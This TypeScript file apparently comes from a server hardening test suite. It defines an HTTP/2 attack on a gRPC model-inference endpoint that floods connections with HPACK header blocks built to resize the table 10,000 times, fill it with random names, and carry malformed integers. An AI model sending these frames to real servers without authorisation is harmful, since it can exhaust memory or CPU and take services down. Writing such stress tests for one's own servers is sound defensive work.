import { defineAttack, MODEL_INFER } from '../../hostile-client.js';
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  headerBlock,
  PREFACE,
  requestHeaders,
  settings,
} from '../../http2-frames.js';

export const attack = defineAttack(import.meta.url, {
  does: 'header blocks that resize the table 10,000 times, that fill it with new names, and with broken integers',
  bound: 'the table has 4 KB; a broken block closes the connection',
  port: 'grpc',
  async run(client) {
    const resizes = Buffer.alloc(10_000, Buffer.of(0x20, 0x3f, 0xe1, 0x1f));
    const names = headerBlock(
      Array.from({ length: 400 }, (_, index) => [`x-${index}-${Math.random()}`, ''] as const),
      true,
    );
    const blocks = [
      Buffer.concat([resizes, requestHeaders(MODEL_INFER)]),
      Buffer.concat([requestHeaders(MODEL_INFER), names]),
      Buffer.alloc(1000, 0xff),
      Buffer.alloc(16_000, 0xbf),
    ];
    await client.repeat(20, (round) => {
      const block = blocks[round % blocks.length] ?? Buffer.alloc(0);
      const frames = Array.from({ length: 20 }, (_, index) =>
        frame(FRAME.headers, END_HEADERS | END_STREAM, 2 * index + 1, block),
      );
      const socket = client.socket();
      socket.write(Buffer.concat([PREFACE, settings(), ...frames]));
      setTimeout(() => socket.destroy(), 500);
    });
  },
});
